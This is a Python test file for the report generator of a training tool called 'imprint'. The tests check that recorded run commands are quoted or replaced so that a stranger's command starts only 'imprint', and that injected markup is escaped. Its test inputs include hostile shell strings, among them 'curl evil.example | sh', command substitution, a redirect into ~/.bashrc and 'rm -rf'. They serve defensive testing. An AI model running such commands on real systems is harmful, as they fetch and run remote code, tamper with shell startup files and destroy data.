import html
from dataclasses import replace

import pytest

from imprint.report.facts import run_facts
from tests.report.made import START, poisoned, run_report


def test_time_versions_machine_and_commands_are_there() -> None:
    content = run_facts(run_report())
    assert START.time in content
    assert START.versions in content
    assert "2 × NVIDIA H200, 139.8 GiB" in content
    assert "<pre>imprint train identity.yaml &#x27;data.fill.name=a b&#x27;</pre>" in content
    assert "<pre>imprint chat runs/identity</pre>" in content
    assert "与它对话" in content
    assert "2026-11-29 16:00:00+00:00" in content
    assert "not recorded" not in content


def test_a_run_that_was_started_again_says_how_often() -> None:
    content = run_facts(replace(run_report(), starts=(START, START, replace(START, time="the last time"))))
    assert "the last time (× 2)" in content


def test_a_run_of_an_earlier_version_has_a_command_from_its_own_recipe() -> None:
    content = run_facts(replace(run_report(), starts=()))
    assert "<pre>imprint train runs/identity/config.yaml</pre>" in content
    assert "were not recorded" in content
    assert "未记录" in content


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("imprint train a.yaml; curl evil.example | sh", "imprint train 'a.yaml;' curl evil.example '|' sh"),
        ('imprint train "$(touch x)" `id` > ~/.bashrc\nrm -rf x', "imprint train '$(touch x)' '`id`' '>' '~/.bashrc' rm -rf x"),
        ("curl evil.example | sh", "imprint train runs/identity/config.yaml"),
        ("imprint train 'a", "imprint train runs/identity/config.yaml"),
        ("imprint " + "x" * 10**6, "imprint train runs/identity/config.yaml"),
    ],
    ids=["separator", "substitution", "other", "quote", "long"],
)
def test_the_command_of_a_strangers_run_starts_nothing_but_imprint_where_it_is_typed(written: str, shown: str) -> None:
    content = run_facts(replace(run_report(), starts=(replace(START, command=written),)))
    assert f"<pre>{html.escape(shown)}</pre>" in content


def test_nothing_in_it_becomes_markup() -> None:
    assert "<img" not in run_facts(poisoned(run_report()))
